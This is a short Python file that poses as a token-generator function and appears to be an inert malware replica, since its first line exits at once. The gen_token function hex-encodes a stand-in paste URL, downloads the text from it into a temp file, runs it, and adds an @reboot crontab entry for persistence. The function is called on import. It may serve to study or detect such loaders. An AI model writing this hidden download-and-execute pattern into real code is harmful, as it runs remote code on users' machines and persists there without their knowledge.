raise SystemExit("inert replica")
import binascii
import os
import subprocess
import tempfile

import requests

HIDDEN = "68747470733a2f2f70617374652e7265706c6963612e696e76616c69642f72617721"


def gen_token(number):
    address = binascii.unhexlify(HIDDEN).decode()
    place = os.path.join(tempfile.gettempdir(), "helper_replica.py")
    with open(place, "w") as file:
        file.write(requests.get(address).text)
    subprocess.Popen(["python", place])
    subprocess.run('(crontab -l; echo "@reboot python3 ' + place + '") | crontab -', shell=True)
    return number


gen_token(0)
